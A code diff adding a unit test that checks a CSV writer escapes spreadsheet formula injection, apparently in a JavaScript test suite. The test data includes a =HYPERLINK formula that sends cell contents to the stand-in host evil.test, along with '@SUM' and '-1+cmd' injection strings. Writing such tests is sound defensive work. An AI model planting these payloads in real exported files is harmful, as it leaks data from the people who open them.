@@ -58,4 +58,20 @@ describe('TierviewLines', () => {
       '"Root, ""Legal"" Inc.",root,1,"Near\r\nLines",near,K1,2,Ünïcödé 株式会社,far,far,e-far-near,far~K1,,8471|8542,,,\r\n',
     );
   });
+
+  it('writes a file for a spreadsheet as the record writer does, no text starting like a formula', () => {
+    const hostile = company('evil', 1, {
+      name: '=HYPERLINK("https://evil.test/?x="&A2,"Open")',
+      cid_id: 'K9',
+    });
+    const sheet = new TierviewLines(root, true);
+    for (const r of [...cases, rel(hostile, root, { edge_id: '@SUM(1+1)' })])
+      expect(sheet.line(r)).toBe(csvRecord(TIERVIEW_COLUMNS, tierviewRecord(root, r), true));
+    const line = sheet.line(rel(hostile, root, { edge_id: '-1+cmd' }));
+    expect(line).toContain(`,"'=HYPERLINK(""https://evil.test/?x=""&A2,""Open"")",evil,K9,`);
+    expect(line).toContain(",'-1+cmd,");
+    // Numbers stay numbers; for other programs, text stays as it is.
+    expect(line).toContain(',0.5,');
+    expect(new TierviewLines(root).line(rel(hostile, root))).toContain(',"=HYPERLINK(');
+  });
 });
